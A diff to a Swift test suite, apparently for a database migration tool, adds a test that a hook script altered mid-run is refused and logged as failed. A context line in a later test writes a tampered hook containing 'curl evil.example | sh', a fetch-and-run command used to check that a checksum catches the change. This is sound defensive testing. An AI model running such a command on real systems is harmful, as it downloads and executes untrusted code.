@@ -146,6 +146,21 @@ import Testing
     }
   }
 
+  @Test func aProgramThatChangedSinceTheRunBeganIsNotRun() async throws {
+    let change = "#!/bin/bash\necho 'touch \"$(dirname \"$0\")/.ran\"' >> \"$(dirname \"$0\")/after-all\"\n"
+    let folder = try folder([("before-all", change), ("after-all", "#!/bin/bash\ntouch \"$(dirname \"$0\")/.ran\"\n")])
+    try await withDatabase { target, connection in
+      let failed = try await failure { try await folder.runner(target).migrate() }
+      #expect(failed.message == "the hook was changed while this run was under way, and was not run")
+      #expect(folder.relative(failed.place?.path ?? "") == "hooks/after-all")
+      #expect(!FileManager.default.fileExists(atPath: folder.path + "/hooks/.ran"))
+      // The versions before it stay, and the record says what became of it.
+      #expect(try await connection.list("SELECT strata.fn_get_schema_version()") == "2")
+      let runs = try await folder.runner(target).history().hooks
+      #expect(runs.map(\.succeeded) == [true, false])
+    }
+  }
+
   @Test func aHookIsCoveredByTheSum() async throws {
     let folder = try folder([("before-all.sh", "#!/bin/sh\nexit 0\n")])
     try folder.write("hooks/before-all.sh", "#!/bin/sh\ncurl evil.example | sh\n")
